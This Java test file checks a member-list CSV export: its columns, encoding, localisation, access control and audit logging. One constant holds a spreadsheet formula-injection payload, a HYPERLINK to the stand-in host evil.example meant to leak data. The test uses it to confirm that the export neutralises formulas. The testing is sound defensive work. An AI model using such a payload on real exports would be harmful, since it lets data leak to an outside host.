package org.essaim.member;

import org.essaim.audit.AuditLog;
import org.essaim.audit.AuditWords;
import org.essaim.platform.DataDirectory;
import org.essaim.testing.EssaimTest;
import org.essaim.testing.Staff;
import org.essaim.testing.WebClient;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;
import static org.essaim.db.Tables.AUDIT_EVENT;

/**
 * The admins' member-list export (code in {@code org.essaim.privacy.member}; here for the space fixtures): its rows,
 * the BOM and separators spreadsheets need, formulas neutralised, the attachment's name, who may download it, and
 * the audit entry it leaves.
 */
@EssaimTest
class MemberListExportTest extends SpaceTestSupport {

    private static final Pattern JOIN_LINK = Pattern.compile("/join/([A-Za-z0-9_-]{43})");
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak\",\"Hélène\")";

    @Autowired
    AuditWords words;

    @Autowired
    DataDirectory dataDirectory;

    @Test
    void anAdminDownloadsAccountsInvitationsAndSignUpsAsASpreadsheetReadsThem() {
        String slug = fixtures.spaceWithAdmin("exp");
        WebClient admin = fixtures.signedIn(slug, "camille.referente");
        String helene = "helene-" + slug + "@example.org";
        String lea = "lea-" + slug + "@example.org";
        String invited = "inv-" + slug + "@example.org";
        String signUp = "jo-" + slug + "@example.org";
        create(admin, slug, FORMULA, helene);
        create(admin, slug, "@Léa Dupont", lea);
        String leaUid = spaceMembers.findByEmail(slug, lea).orElseThrow().uid();
        String heleneUid = spaceMembers.findByEmail(slug, helene).orElseThrow().uid();
        admin.submit(
                "/spaces/" + slug + "/members",
                "/spaces/" + slug + "/members/" + leaUid + "/disable",
                Map.of("confirmed", "true"));
        admin.submit(
                "/spaces/" + slug + "/invitations",
                "/spaces/" + slug + "/invitations",
                Map.of("emails", invited, "asAdmin", "true"));
        askToJoin(admin, slug, "-Jo Nas", signUp);

        assertThat(admin.get("/spaces/" + slug + "/export", "Accept-Language", "en")
                        .body())
                .contains("href=\"/spaces/" + slug + "/members/export.csv\"");
        HttpResponse<String> english = admin.get("/spaces/" + slug + "/members/export.csv", "Accept-Language", "en");
        assertThat(english.statusCode()).isEqualTo(200);
        assertThat(english.headers().firstValue("Content-Type")).hasValue("text/csv;charset=UTF-8");
        String today = LocalDate.now(clock.withZone(ZoneOffset.UTC)).toString();
        assertThat(english.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"" + slug + "-members-" + today + ".csv\"");
        String file = english.body();
        assertThat(file).as("UTF-8 byte order mark").startsWith("\uFEFF");
        assertThat(file).endsWith("\r\n");
        List<String> lines = List.of(file.substring(1).split("\r\n"));
        assertThat(lines).hasSize(6);
        assertThat(lines.get(0))
                .isEqualTo("Kind,Name,Email,User name,Role,State,Invited at (UTC),Invited by,Link expires (UTC)");
        assertThat(lines)
                .contains(
                        "account,Camille Référente," + SpaceFixtures.referent(slug)
                                + ",camille.referente,admin,active,,,",
                        // The formula is text: a leading apostrophe, and quoted since it holds commas and quotes.
                        "account,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Hélène\"\")\"," + helene + ","
                                + heleneUid + ",member,active,,,",
                        "account,'@Léa Dupont," + lea + "," + leaUid + ",member,disabled,,,");
        assertThat(lines)
                .anySatisfy(line -> assertThat(line)
                        .matches(Pattern.quote("invitation,," + invited + ",,admin,\"invited, not accepted yet\",")
                                + "\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d,"
                                + Pattern.quote("camille.referente@" + slug + ",")
                                + "\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d"));
        assertThat(lines)
                .anySatisfy(line -> assertThat(line)
                        .startsWith("sign-up,'-Jo Nas," + signUp + ",,member,awaiting approval," + today));
        assertThat(lines).noneSatisfy(line -> assertThat(line).matches("(?s)(^|.*[,\"])[=+@-].*"));

        HttpResponse<String> french = admin.get("/spaces/" + slug + "/members/export.csv", "Accept-Language", "fr");
        assertThat(french.body())
                .startsWith("\uFEFFGenre;Nom;Adresse e-mail;Identifiant;Rôle;État;")
                .contains("\r\ncompte;Camille Référente;" + SpaceFixtures.referent(slug)
                        + ";camille.referente;admin;actif;;;\r\n")
                .contains("\r\ncompte;'@Léa Dupont;" + lea + ";" + leaUid + ";membre;désactivé;;;\r\n")
                .contains("\r\ninscription;'-Jo Nas;" + signUp + ";;membre;en attente de validation;");

        // Over the API, with the admin's HTTP Basic name: the same file.
        String[] basic = WebClient.basic("camille.referente@" + slug, SpaceFixtures.PASSWORD);
        HttpResponse<String> api = new WebClient(port)
                .get(
                        "/api/v1/spaces/" + slug + "/members/export",
                        SpaceFixtures.concat(basic, "Accept", "text/csv", "Accept-Language", "en"));
        assertThat(api.statusCode()).isEqualTo(200);
        assertThat(api.body()).isEqualTo(file);
        assertThat(api.headers().firstValue("Content-Disposition"))
                .hasValueSatisfying(value -> assertThat(value).contains(slug + "-members-" + today + ".csv"));

        var exports = db.selectFrom(AUDIT_EVENT)
                .where(AUDIT_EVENT.ACTION.eq("member.list-exported"))
                .and(AUDIT_EVENT.TARGET.eq("space:" + slug))
                .fetch();
        assertThat(exports).hasSize(3).allSatisfy(event -> {
            assertThat(event.getActor()).isEqualTo("camille.referente@" + slug);
            assertThat(words.detail(AuditLog.event(event), Locale.ENGLISH))
                    .as("counts, no personal data")
                    .isEqualTo("3 accounts, 2 invitations and sign-ups");
        });
    }

    @Test
    void onlyTheSpacesAdminsAndStaffMayExportAndRefusalsLeaveNoTrace() {
        String slug = fixtures.spaceWithAdmin("exq");
        String other = fixtures.spaceWithAdmin("exo");
        WebClient admin = fixtures.signedIn(slug, "camille.referente");
        String memberEmail = "m-" + slug + "@example.org";
        admin.submit(
                "/spaces/" + slug + "/invitations", "/spaces/" + slug + "/invitations", Map.of("emails", memberEmail));
        assertThat(fixtures.accept(fixtures.invitationToken(memberEmail), "Maud Membre", SpaceFixtures.PASSWORD)
                        .statusCode())
                .isEqualTo(200);

        WebClient member = fixtures.signedIn(slug, "maud.membre");
        assertThat(member.get("/spaces/" + slug + "/members/export.csv").statusCode())
                .isEqualTo(403);
        assertThat(member.get("/spaces/" + slug + "/export").statusCode()).isEqualTo(403);
        WebClient api = new WebClient(port);
        String exportPath = "/api/v1/spaces/" + slug + "/members/export";
        assertThat(api.get(exportPath, WebClient.basic("maud.membre@" + slug, SpaceFixtures.PASSWORD))
                        .statusCode())
                .isEqualTo(403);

        WebClient adminOfOther = fixtures.signedIn(other, "camille.referente");
        assertThat(adminOfOther.get("/spaces/" + slug + "/members/export.csv").statusCode())
                .isEqualTo(404);
        assertThat(adminOfOther.get("/spaces/" + slug + "/export").statusCode()).isEqualTo(404);
        HttpResponse<String> otherApi = api.get(
                exportPath,
                SpaceFixtures.concat(
                        WebClient.basic("camille.referente@" + other, SpaceFixtures.PASSWORD), "Accept", "text/csv"));
        assertThat(otherApi.statusCode()).isEqualTo(404);
        assertThat(otherApi.headers().firstValue("Content-Type")).hasValue("application/problem+json");

        assertThat(api.get(exportPath).statusCode()).isEqualTo(401);
        assertThat(db.fetchCount(
                        AUDIT_EVENT,
                        AUDIT_EVENT.ACTION.eq("member.list-exported").and(AUDIT_EVENT.TARGET.eq("space:" + slug))))
                .isZero();

        // Staff may read it for support, as the API documents, and it is audited under their name.
        String[] staff = WebClient.basic("admin", Staff.adminPassword(dataDirectory));
        HttpResponse<String> byStaff = api.get(exportPath, SpaceFixtures.concat(staff, "Accept", "text/csv"));
        assertThat(byStaff.statusCode()).isEqualTo(200);
        assertThat(byStaff.body()).contains(memberEmail);
        assertThat(db.select(AUDIT_EVENT.ACTOR)
                        .from(AUDIT_EVENT)
                        .where(AUDIT_EVENT.ACTION.eq("member.list-exported"))
                        .and(AUDIT_EVENT.TARGET.eq("space:" + slug))
                        .fetch(AUDIT_EVENT.ACTOR))
                .containsExactly("admin");
        assertThat(api.get(
                                "/api/v1/spaces/nope-" + slug + "/members/export",
                                SpaceFixtures.concat(staff, "Accept", "text/csv"))
                        .statusCode())
                .isEqualTo(404);
        assertThat(api.get("/v3/api-docs").body())
                .contains("/api/v1/spaces/{slug}/members/export")
                .contains("text/csv");
    }

    private static void create(WebClient admin, String slug, String name, String email) {
        HttpResponse<String> created = admin.submit(
                "/spaces/" + slug + "/members",
                "/spaces/" + slug + "/members",
                Map.of("displayName", name, "email", email));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(302);
    }

    private void askToJoin(WebClient admin, String slug, String name, String email) {
        admin.submit("/spaces/" + slug + "/invitations", "/spaces/" + slug + "/join-link", Map.of());
        Matcher link =
                JOIN_LINK.matcher(admin.get("/spaces/" + slug + "/invitations").body());
        assertThat(link.find()).isTrue();
        String token = link.group(1);
        HttpResponse<String> asked = new WebClient(port)
                .submit("/join/" + token, "/join/" + token, Map.of("displayName", name, "email", email));
        assertThat(asked.body()).contains("id=\"requested\"");
    }
}
